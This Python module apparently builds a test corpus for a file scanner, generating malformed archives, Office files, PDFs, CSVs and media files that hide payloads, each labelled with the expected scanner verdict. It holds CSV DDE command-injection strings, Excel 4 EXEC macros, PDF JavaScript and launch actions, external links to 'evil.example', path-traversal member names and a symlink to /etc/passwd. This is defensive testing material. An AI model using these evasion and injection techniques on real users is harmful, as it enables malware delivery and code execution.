"""Rarer ways to hide in the kinds that may come in: tar, 7z, xz, zstd, zip, documents, media."""

import base64
import lzma
import struct
import tarfile
import zlib

from . import compound, media
from .hostile_archives import entry, tarball
from .office import HEAD, macros, open_document, open_xml, relations, workbook
from .payload import EICAR, GZIPPED, LONG, TEXT, ZIPPED, gz, plain_zip, raw_deflate
from .pdf import build as pdf
from .pdf import compressed, stream
from .tools import made, piped
from .zipfield import Member, build, packed

BROKEN = (
    "damaged",
    "readers-disagree",
    "infected",
    "not-opened",
    "polyglot",
    "member-name",
    "size-limit",
)
ACTIVE = ("active-content", "suspicious", "macro", "embedded-program", "infected")
ACTION = ("pdf-action", "suspicious", "infected", "active-content")
ADDRESS = "http://evil.example/a"


def cases(corpus):
    tars(corpus)
    sevenzips(corpus)
    streams(corpus)
    zips(corpus)
    open_xml_parts(corpus)
    old_sheets(corpus)
    pdfs(corpus)
    tables(corpus)
    inside_media(corpus)


def tars(corpus):
    kinds = [
        (b"Z", "an unknown kind"),
        (b"M", "a continued volume"),
        (b"V", "a volume label"),
        (b"D", "a dumped folder"),
        (b"7", "a contiguous file"),
        (b"S", "an old sparse file"),
        (b"N", "an old long name"),
        (b"X", "a Solaris header"),
        (b"5", "a folder that holds data"),
        (b"1", "a hard link that holds data"),
        (b"2", "a symbolic link that holds data"),
        (b"6", "a FIFO that holds data"),
    ]
    for kind, name in kinds:
        data = tarball(entry("b.txt", TEXT), entry("a.zip", ZIPPED), form=tarfile.USTAR_FORMAT)
        at = data.index(b"a.zip")
        head = bytearray(data[at : at + 512])
        head[156:157] = kind
        head[148:156] = b" " * 8
        head[148:156] = b"%06o\0 " % sum(head)
        corpus.add(
            "tar with " + name, "材料.tar", data[:at] + bytes(head) + data[at + 512 :], *BROKEN
        )
        corpus.add(
            "tar.gz with " + name,
            "材料.tar.gz",
            gz(data[:at] + bytes(head) + data[at + 512 :]),
            *BROKEN
        )
    whole = tarball(entry("b.txt", TEXT), form=tarfile.USTAR_FORMAT)
    rest = tarball(entry("a.zip", ZIPPED), form=tarfile.USTAR_FORMAT)
    corpus.add(
        "tar with one empty block in the middle",
        "材料.tar",
        whole[: 2048 + 512] + bytes(512) + rest,
        *BROKEN
    )
    corpus.add(
        "tar with a gap of other bytes", "材料.tar", whole[: 512 + 1536] + b"x" * 512 + rest, *BROKEN
    )
    corpus.add("tar whose end is followed by a gzip", "材料.tar", whole + gz(rest), *BROKEN)
    corpus.add(
        "tar with two entries of one name",
        "材料.tar",
        tarball(entry("a.txt", TEXT), entry("a.txt", LONG)),
        *BROKEN
    )
    corpus.add(
        "tar with a name of 5,000 letters",
        "材料.tar",
        tarball(entry("a" * 5000 + ".txt", TEXT), form=tarfile.PAX_FORMAT),
        *BROKEN
    )
    for name, member in [
        ("trailing dot", "a.txt."),
        ("reserved word", "CON"),
        ("stream", "a.txt:b.exe"),
        ("backslashes", "..\\a.txt"),
        ("newline", "a\nb.txt"),
        ("double extension", "报告.pdf.exe"),
    ]:
        corpus.add(
            "tar member name: " + name,
            "材料.tar",
            tarball(entry(member, TEXT)),
            *BROKEN,
            "embedded-program"
        )
    path = entry("a.txt", TEXT, pax_headers={"path": "../../b.txt"})
    corpus.add("tar whose extended header names another path", "材料.tar", tarball(path), *BROKEN)
    sparse = entry(
        "a.zip",
        ZIPPED,
        pax_headers={
            "GNU.sparse.major": "1",
            "GNU.sparse.minor": "0",
            "GNU.sparse.realsize": "9",
            "GNU.sparse.name": "b.txt",
        },
    )
    corpus.add("tar with a sparse map that lies", "材料.tar", tarball(sparse), *BROKEN)


def sevenzips(corpus):
    whole = made(
        {"a.txt": LONG * 3, "b.txt": TEXT},
        ["7z", "a", "-mhc=off", "out.7z", "a.txt", "b.txt"],
        result="out.7z",
    )
    clean = made({"b.txt": TEXT}, ["7z", "a", "-mhc=off", "out.7z", "b.txt"], result="out.7z")
    offset, size = struct.unpack_from("<QQ", clean, 12)
    header = clean[32 + offset : 32 + offset + size]
    gap = clean[: 32 + offset] + ZIPPED + header
    corpus.add(
        "7z with the payload between data and header",
        "材料.7z",
        restarted(gap, offset + len(ZIPPED), header),
        *BROKEN
    )
    behind = clean[: 32 + offset] + header + ZIPPED
    corpus.add("7z with the payload behind its header", "材料.7z", behind, *BROKEN)
    empty = restarted(b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), 0, b"")
    corpus.add("7z without members, payload behind", "材料.7z", empty + ZIPPED, *BROKEN)
    lie = bytearray(whole)
    lie[32 + 20] ^= 0xFF
    corpus.add("7z with a damaged stream", "材料.7z", bytes(lie), *BROKEN)
    named = made({"a/x.txt": TEXT}, ["7z", "a", "-mhc=off", "out.7z", "a/x.txt"], result="out.7z")
    for name, path in [
        ("upwards", "../.txt"),
        ("absolute", "/a/x.tx"),
        ("drive", "C:x.txt"),
        ("turning", "a\u202ex.txt"[:7]),
        ("control", "a\x1bx.txt"),
        ("reserved", "CON.txt"),
        ("dot", "a/x.tx."),
    ]:
        old, new = "a/x.txt".encode("utf-16-le"), path.ljust(7, "x")[:7].encode("utf-16-le")
        at, count = struct.unpack_from("<QQ", named, 12)
        head = named[32 + at : 32 + at + count].replace(old, new)
        corpus.add(
            "7z member name: " + name,
            "材料.7z",
            restarted(named[: 32 + at] + head, at, head),
            *BROKEN
        )
    corpus.add(
        "7z with a symbolic link",
        "材料.7z",
        made({"x": b""}, ["sh", "-c", "ln -s /etc/passwd a; 7z a -snl out.7z a"], result="out.7z"),
        *BROKEN
    )


def restarted(data, offset, header):
    """A 7z whose start header fits its end."""
    start = struct.pack("<QQI", offset, len(header), zlib.crc32(header))
    return data[:8] + struct.pack("<I", zlib.crc32(start)) + start + data[32:]


def streams(corpus):
    clean = piped(["zstd", "-qc"], TEXT)
    skip = b"\x5a\x2a\x4d\x18" + struct.pack("<I", len(GZIPPED)) + GZIPPED
    corpus.add("zst with the payload in a skippable frame before", "材料.zst", skip + clean, *BROKEN)
    corpus.add("zst with the payload in a skippable frame behind", "材料.zst", clean + skip, *BROKEN)
    for number in range(2, 9):
        corpus.add(
            "zst of version 0.%d" % number,
            "材料.zst",
            bytes([0x20 + number, 0xB5, 0x2F, 0xFD]) + LONG[::-1],
            *BROKEN,
            "type-unknown",
            "type",
            "mismatch"
        )
    corpus.add(
        "zst without checksum, damaged",
        "材料.zst",
        piped(["zstd", "-qc", "--no-check"], LONG * 9)[:-30] + bytes(30),
        *BROKEN
    )
    corpus.add(
        "zst of a very long window",
        "材料.zst",
        piped(["zstd", "-qc", "--long=31", "--ultra", "-22"], LONG * 9),
        *BROKEN
    )
    for name, check in [
        ("no check", lzma.CHECK_NONE),
        ("CRC 32", lzma.CHECK_CRC32),
        ("SHA-256", lzma.CHECK_SHA256),
    ]:
        corpus.add("xz with " + name, "材料.xz", lzma.compress(LONG, check=check), "infected")
    for name, first in [
        ("x86", {"id": lzma.FILTER_X86}),
        ("delta", {"id": lzma.FILTER_DELTA, "dist": 4}),
        ("ARM", {"id": lzma.FILTER_ARM}),
    ]:
        data = lzma.compress(LONG, filters=[first, {"id": lzma.FILTER_LZMA2}])
        corpus.add(
            "xz through the filter " + name, "材料.xz", data, "infected", "not-opened", "damaged"
        )
    corpus.add(
        "xz with padding before a second stream",
        "材料.xz",
        lzma.compress(TEXT) + bytes(8) + lzma.compress(LONG),
        *BROKEN
    )
    whole = bytearray(lzma.compress(LONG))
    whole[-20] ^= 0xFF
    corpus.add("xz with an index that lies", "材料.xz", bytes(whole), *BROKEN)
    bz = bytearray(piped(["bzip2", "-c"], LONG))
    bz[-2] ^= 0xFF
    corpus.add("bz2 with a wrong checksum", "材料.bz2", bytes(bz), *BROKEN)
    corpus.add(
        "bz2 with other bytes behind", "材料.bz2", piped(["bzip2", "-c"], TEXT) + LONG[::-1], *BROKEN
    )
    corpus.add("empty gz with a member behind", "材料.gz", gz(b"") + gz(LONG), *BROKEN)
    corpus.add(
        "gz in which a tar has more behind it",
        "材料.tar.gz",
        gz(tarball(entry("a.txt", TEXT)) + tarball(entry("a.zip", ZIPPED))),
        *BROKEN
    )


def zips(corpus):
    good = Member("b.txt", TEXT)
    crc = zlib.crc32(b"a.txt")
    extra = struct.pack("<HHBI", 0x7075, 5 + 5, 1, crc) + b"a.exe"
    corpus.add(
        "zip whose Unicode name is another",
        "材料.zip",
        build([Member("a.txt", TEXT, extra=extra, local_extra=extra)]),
        *BROKEN,
        "embedded-program"
    )
    upwards = struct.pack("<HHBI", 0x7075, 5 + 8, 1, crc) + b"../a.txt"
    corpus.add(
        "zip whose Unicode name leads upwards",
        "材料.zip",
        build([Member("a.txt", TEXT, extra=upwards, local_extra=upwards)]),
        *BROKEN
    )
    body = packed(LONG, 8)
    for name, field in [
        ("that is smaller", struct.pack("<HHQQ", 1, 16, 9, len(body))),
        ("that is larger", struct.pack("<HHQQ", 1, 16, 1 << 40, len(body))),
        ("that is cut", struct.pack("<HHQ", 1, 8, len(LONG))),
    ]:
        corpus.add(
            "zip with a size of 64 bits " + name,
            "材料.zip",
            build(
                [
                    Member(
                        "a.txt",
                        LONG,
                        size=0xFFFFFFFF,
                        packed_size=0xFFFFFFFF,
                        extra=field,
                        local={"size": len(LONG), "packed_size": len(body)},
                    )
                ]
            ),
            *BROKEN
        )
    both = struct.pack("<HHQQ", 1, 16, 9, 9)
    corpus.add(
        "zip with sizes in 32 and in 64 bits that differ",
        "材料.zip",
        build([good, Member("a.txt", LONG, extra=both, local_extra=both)]),
        *BROKEN
    )
    corpus.add(
        "zip that looks like an OpenDocument and holds a program",
        "报告.odt",
        open_document(parts=[("a.exe", b"MZ" + bytes(200))]),
        "embedded-program",
        "not-opened",
        "damaged",
    )
    corpus.add(
        "docx that is a Java archive as well",
        "报告.docx",
        open_xml(
            "docx",
            [
                ("META-INF/MANIFEST.MF", b"Main-Class: A\r\n"),
                ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40)),
            ],
        ),
        "embedded-program",
        "type",
        "mismatch",
        "not-opened",
    )
    corpus.add(
        "docx that is an Android package as well",
        "报告.docx",
        open_xml(
            "docx",
            [
                ("AndroidManifest.xml", b"\3\0\x08\0" + bytes(60)),
                ("classes.dex", b"dex\n035\0" + bytes(104)),
            ],
        ),
        "embedded-program",
        "type",
        "mismatch",
        "not-opened",
    )
    noise = raw_deflate(LONG)[::-1] * 3
    corpus.add(
        "OFD with encrypted parts",
        "公文.ofd",
        plain_zip(
            [
                ("OFD.xml", b"<?xml version='1.0'?><OFD/>"),
                (
                    "Encryptions.xml",
                    b"<?xml version='1.0'?><ofd:Encryptions xmlns:ofd='http://www.ofdspec.org/2016'/>",
                ),
                ("Doc_0/Document.dat", noise),
            ]
        ),
        "encrypted-document",
        "encrypted-archive",
        "not-opened",
    )
    corpus.add(
        "zip in which one member claims to be stored, and is deflated",
        "材料.zip",
        build(
            [good, Member("a.txt", LONG, 0, body=raw_deflate(LONG), size=len(raw_deflate(LONG)))]
        ),
        *BROKEN
    )
    corpus.add(
        "zip with a member of unknown kind",
        "材料.zip",
        plain_zip([("a.dat", noise)]),
        "not-opened",
        "damaged",
        "embedded-program",
    )
    corpus.add(
        "zip with a member of unknown kind named txt",
        "材料.zip",
        plain_zip([("a.txt", noise)]),
        "not-opened",
        "damaged",
        "embedded-program",
    )


def open_xml_parts(corpus):
    pictures = [
        ("http", ADDRESS + ".png"),
        ("share", "\\\\evil.example\\a.png"),
        ("file share", "file://evil.example/a.png"),
    ]
    for name, target in pictures:
        for kind in ("docx", "xlsx", "pptx"):
            corpus.add(
                "%s with a picture elsewhere, by %s" % (kind, name),
                "报告." + kind,
                open_xml(kind, links=[("image", target, True)]),
                *ACTIVE
            )
    for kind in ("video", "audio", "media", "externalLinkPath"):
        corpus.add(
            "pptx with a %s elsewhere" % kind,
            "演示.pptx",
            open_xml("pptx", links=[(kind, "\\\\evil.example\\a.mp4", True)]),
            *ACTIVE
        )
    strict = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
    for kind in ("oleObject", "attachedTemplate", "frame"):
        corpus.add(
            "docx of the strict form whose %s is elsewhere" % kind,
            "报告.docx",
            open_xml("docx", links=[(strict + kind, ADDRESS, True)]),
            *ACTIVE
        )
    for field in (
        'INCLUDEPICTURE "http://evil.example/a.png"',
        'INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"',
        'IMPORT "\\\\\\\\evil.example\\\\a"',
        'LINK Excel.Sheet.8 "\\\\\\\\evil.example\\\\a.xls"',
        'DATABASE \\d "\\\\\\\\evil.example\\\\a"',
    ):
        body = "<w:p><w:r><w:instrText>%s</w:instrText></w:r></w:p>" % field
        corpus.add(
            "docx with the field " + field.split()[0],
            "报告.docx",
            open_xml("docx", body=body),
            *ACTIVE
        )
    connection = (
        HEAD
        + '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" type="%d" refreshOnLoad="1"><webPr url="http://evil.example/a"/><dbPr connection="Provider=a" command="b"/></connection></connections>'
    )
    for number, name in [(4, "web"), (5, "OLE DB"), (1, "ODBC")]:
        corpus.add(
            "xlsx with a connection by " + name,
            "表.xlsx",
            open_xml("xlsx", [("xl/connections.xml", (connection % number).encode())]),
            *ACTIVE
        )
    sheet = (
        HEAD
        + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>%s</f></c></row></sheetData></worksheet>'
    )
    corpus.add(
        "xlsx with WEBSERVICE",
        "表.xlsx",
        open_xml(
            "xlsx",
            [
                (
                    "xl/worksheets/sheet1.xml",
                    (sheet % '_xlfn.WEBSERVICE("http://evil.example/a")').encode(),
                )
            ],
        ),
        *ACTIVE
    )
    frames = (
        HEAD
        + '<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:frameset><w:frame><w:sourceFileName r:id="rId1" xmlns:r="a"/></w:frame></w:frameset></w:webSettings>'
    )
    part = [
        ("word/webSettings.xml", frames.encode()),
        ("word/_rels/webSettings.xml.rels", relations(("frame", "\\\\evil.example\\a", True))),
    ]
    corpus.add("docx with frames that are elsewhere", "报告.docx", open_xml("docx", part), *ACTIVE)
    for kind, data in [
        ("RTF", b"{\\rtf1{\\object\\objdata 01}}"),
        ("MHT", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>a()</script>"),
        ("docx", open_xml("docx", [("a/b.txt", LONG)])),
    ]:
        chunk = open_xml(
            "docx", [("word/chunk.dat", data)], links=[("aFChunk", "chunk.dat", False)]
        )
        corpus.add("docx with a chunk of " + kind, "报告.docx", chunk, *ACTIVE, "not-opened")
    flat = (
        HEAD
        + '<?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>%s</pkg:binaryData></pkg:part></pkg:package>'
    )
    data = (flat % base64.b64encode(compound.build(macros())).decode()).encode()
    for shown in ("报告.xml", "报告.doc", "报告.docx", "报告.txt"):
        corpus.add(
            "document as one XML with macros, named " + shown[-4:],
            shown,
            data,
            *ACTIVE,
            "type",
            "mismatch",
            "not-opened",
            "damaged"
        )
    active = base64.encodebytes(
        b"ActiveMime\0\0\1\xf0\4\0\0\0" + bytes(30) + zlib.compress(compound.build(macros()))
    )
    mht = (
        b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n--b\r\nContent-Location: editdata.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n'
        + active
        + b"\r\n--b--\r\n"
    )
    for shown in ("报告.mht", "报告.doc"):
        corpus.add(
            "archived page with macros, named " + shown[-3:],
            shown,
            mht,
            *ACTIVE,
            "type",
            "mismatch",
            "not-opened",
            "type-unknown"
        )


def old_sheets(corpus):
    for version, mark in [
        (2, b"\x09\0\4\0\2\0\x40\0"),
        (3, b"\x09\2\6\0\0\3\x40\0\0\0"),
        (4, b"\x09\4\6\0\0\4\x40\0\0\0"),
    ]:
        cells = b"\x06\0\x20\0" + bytes(32) + b'\x04\2\x10\0=EXEC("calc")   '
        corpus.add(
            "macro sheet of BIFF%d" % version,
            "表.xls",
            mark + cells + b"\x0a\0\0\0" + bytes(400),
            "macro",
            "type",
            "mismatch",
            "type-unknown",
            "not-opened",
            "damaged",
            "active-content",
        )
    name = struct.pack("<HBBHHH4B", 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0) + b"\0\1"
    book = workbook(struct.pack("<HH", 0x18, len(name)) + name, sheet=b"\0\1")
    corpus.add(
        "xls with a macro sheet that runs when opened",
        "表.xls",
        compound.build({"Workbook": book}),
        "macro",
        "damaged",
        "active-content",
    )
    corpus.add(
        "doc whose macros lie under another storage",
        "报告.doc",
        compound.build(
            {
                "WordDocument": b"\xec\xa5\xc1\0" + bytes(6000),
                "Hidden": {"Deep": {"Macros": macros()}},
            }
        ),
        "macro",
    )


def pdfs(corpus):
    def add(name, data, *reasons):
        corpus.add("PDF " + name, "报告.pdf", data, *reasons)

    add(
        "locked by a public key",
        pdf(trailer="/Encrypt <</Filter /Adobe.PubSec /V 4>>"),
        "encrypted-document",
    )
    add(
        "with a link that is a script",
        pdf(
            objects=[
                b"<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <</S /URI /URI (javascript:app.alert\\(1\\))>>>>"
            ],
            page="/Annots [5 0 R]",
        ),
        *ACTION
    )
    add(
        "with attachments in compressed objects",
        compressed(b"/Names <</EmbeddedFiles <</Names [(a) 9 0 R]>>>>"),
        *ACTION
    )
    add("with XFA in compressed objects", compressed(b"/AcroForm <</XFA [(a) 9 0 R]>>"), *ACTION)
    add(
        "with a bookmark that launches",
        pdf(
            "/Outlines 5 0 R",
            [
                b"<</First 6 0 R /Last 6 0 R /Count 1>>",
                b"<</Title (a) /Parent 5 0 R /A <</S /Launch /F (a.exe)>>>>",
            ],
        ),
        *ACTION
    )
    add("that closes with a script", pdf("/AA <</WC <</S /JavaScript /JS (a)>>>>"), *ACTION)
    add(
        "with a field that calculates",
        pdf(
            "/AcroForm <</Fields [5 0 R]>>",
            [b"<</FT /Tx /T (a) /AA <</C <</S /JavaScript /JS (a)>>>>>>"],
        ),
        *ACTION
    )
    add(
        "with the mark of a printer's file in front",
        b"%!PS-Adobe-3.0 PDF-1.4\n" + pdf("/OpenAction <</S /JavaScript /JS (a)>>"),
        *ACTION,
        "type",
        "mismatch",
        "polyglot",
        "damaged"
    )
    for name, action in [("script", b"<</S/JavaScript/JS(a)>>"), ("launch", b"<</S/Launch/F(a)>>")]:
        holder = stream(
            zlib.compress(zlib.compress(b"1 0 <</OpenAction " + action + b">>")),
            "/Type /ObjStm /N 1 /First 4",
            "[/FlateDecode /FlateDecode]",
        )
        add(
            "with a %s in objects packed twice by one filter" % name,
            pdf(objects=[holder]),
            *ACTION,
            "not-opened"
        )
    add(
        "in a PDF's stream",
        pdf(
            objects=[
                stream(
                    zlib.compress(pdf("/OpenAction <</S /JavaScript /JS (a)>>")), "", "/FlateDecode"
                )
            ]
        ),
        *ACTION
    )


def tables(corpus):
    kinds = [
        ("in the second column", "名称,公式\n甲,=cmd|'/c calc'!A1\n"),
        ("between quotes", '"甲","=cmd|\'/c calc\'!A1"\n'),
        ("with an at sign", "@SUM(1+1)*cmd|'/c calc'!A0\n"),
        ("with a minus", "-2+3+cmd|'/c calc'!A0\n"),
        ("of PowerShell", "=powershell|'-c calc'!A1\n"),
        ("of MSEXCEL", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\n"),
        ("behind spaces", "a,   =cmd|'/c calc'!A1\n"),
        ("behind a tab", "a\t=cmd|'/c calc'!A1\n"),
        ("in upper case", "=CMD|'/C CALC'!A1\n"),
    ]
    for name, text in kinds:
        for coding, data in [
            ("UTF-8", text.encode()),
            ("GB 18030", text.encode("gb18030")),
            ("UTF-16", b"\xff\xfe" + text.encode("utf-16-le")),
        ]:
            corpus.add(
                "table that runs a command %s, in %s" % (name, coding), "表.csv", data, *ACTIVE
            )
    corpus.add(
        "table that fetches a page", "表.csv", b'=WEBSERVICE("http://evil.example/"&A1)\n', *ACTIVE
    )


def inside_media(corpus):
    held = ("polyglot", "infected", "broken-media", "damaged", "not-opened", "suspicious")
    frame = b"application/zip\0a.zip\0\0" + ZIPPED
    size = len(frame) + 1
    body = b"GEOB" + struct.pack(">I", size) + b"\0\0\0" + frame
    total = len(body)
    tag = (
        b"ID3\3\0\0"
        + bytes([total >> 21 & 127, total >> 14 & 127, total >> 7 & 127, total & 127])
        + body
    )
    corpus.add("mp3 with a zip in its title", "声.mp3", tag + media.mp3(), *held)
    corpus.add(
        "wav with a zip in its notes", "声.wav", riff(media.wav(), b"LIST", b"INFO" + ZIPPED), *held
    )
    corpus.add("webp with a zip in its notes", "图.webp", riff(media.webp(), b"EXIF", ZIPPED), *held)
    gif = media.gif()
    blocks = b"".join(
        bytes([len(ZIPPED[i : i + 255])]) + ZIPPED[i : i + 255] for i in range(0, len(ZIPPED), 255)
    )
    corpus.add(
        "gif with a zip in its comment", "图.gif", gif[:-1] + b"\x21\xfe" + blocks + b"\0\x3b", *held
    )
    corpus.add(
        "mp4 with a zip in its free space",
        "片.mp4",
        media.mp4() + media.atom(b"free", ZIPPED),
        *held
    )
    corpus.add(
        "jpeg with the clear payload in a segment", "图.jpg", media.jpeg(comment=EICAR), "infected"
    )
    corpus.add("png with the clear payload in a chunk", "图.png", media.png(chunk=EICAR), "infected")
    data = media.png()
    corpus.add("png with a zip between its chunks", "图.png", data[:33] + ZIPPED + data[33:], *held)
    corpus.add(
        "jpeg with a zip between its segments",
        "图.jpg",
        media.jpeg()[:2] + ZIPPED + media.jpeg()[2:],
        *held
    )
    corpus.add("tiff with a zip behind its picture", "图.tif", media.tiff() + ZIPPED, *held)


def riff(data, kind, body):
    body += b"\0" * (len(body) % 2)
    data += kind + struct.pack("<I", len(body)) + body
    return data[:4] + struct.pack("<I", len(data) - 8) + data[8:]
